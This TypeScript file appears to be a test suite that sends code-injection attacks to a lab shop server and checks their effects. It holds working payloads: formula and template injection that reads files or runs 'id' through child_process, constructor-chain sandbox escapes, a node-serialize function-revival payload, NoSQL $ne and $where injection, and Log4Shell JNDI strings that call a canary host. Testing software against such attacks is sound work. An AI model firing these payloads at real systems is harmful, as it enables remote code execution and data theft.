import { leakedEmail } from '../../shop/database.js';
import { secretText } from '../../shop/folders.js';
import { type Attack, calls, leaks, type Scene, writes } from '../attack.js';

const readSecret = ({ root }: Scene): string =>
  `process.getBuiltinModule('node:fs').readFileSync('${root}/secret.txt','utf8')`;

/** Runs the attacker's program inside the server: formulas, templates, revived functions, query operators, look-ups. */
export const codeInjection: readonly Attack[] = [
  {
    name: 'formula reads a file',
    request: (scene) => ({ path: '/tools/price', json: { formula: readSecret(scene) } }),
    effect: leaks(secretText),
  },
  {
    name: 'formula starts a child process',
    request: {
      path: '/tools/price',
      form: { formula: "process.mainModule, process.getBuiltinModule('child_process').execSync('id').toString()" },
    },
    effect: leaks('uid='),
  },
  {
    name: 'formula by the constructor chain',
    request: ({ root }) => ({
      path: '/tools/price',
      json: {
        formula: `[].constructor.constructor("return process")().getBuiltinModule("fs").writeFileSync("${root}/marker-formula.txt","x")`,
      },
    }),
    effect: writes('marker-formula.txt'),
  },
  {
    name: 'template reads the environment',
    request: { path: '/tools/card', json: { text: 'Dear {{JSON.stringify(process.versions)}}' } },
    effect: leaks('"v8":'),
  },
  {
    name: 'template by the constructor chain',
    request: {
      path: '/tools/card',
      form: { text: "{{this.constructor.constructor('return process.pid + `-pid`')()}}" },
    },
    effect: leaks('-pid'),
  },
  {
    name: 'revived function',
    request: {
      path: '/tools/cart',
      json: { item: "_$$ND_FUNC$$_function(){return process.getBuiltinModule('child_process').execSync('id')+''}()" },
    },
    effect: leaks('uid='),
  },
  {
    name: 'operator in place of a password',
    request: { path: '/tools/filter', json: { name: 'admin', password: { $ne: null } } },
    effect: leaks(leakedEmail),
  },
  {
    name: '$where program',
    request: { path: '/tools/filter', json: { $where: "user.role == 'admin'" } },
    effect: leaks(leakedEmail),
  },
  {
    name: 'log look-up',
    request: ({ canary }) => ({
      path: `/tools/feedback?text=${encodeURIComponent(`\${jndi:ldap://${canary}/jndi-plain}`)}`,
    }),
    effect: calls('/jndi-plain'),
  },
  {
    name: 'log look-up, obfuscated, in a header',
    request: ({ canary }) => ({
      path: '/tools/feedback',
      headers: { 'x-client': `\${\${lower:j}ndi:ldap://${canary}/jndi-header}` },
    }),
    effect: calls('/jndi-header'),
  },
];
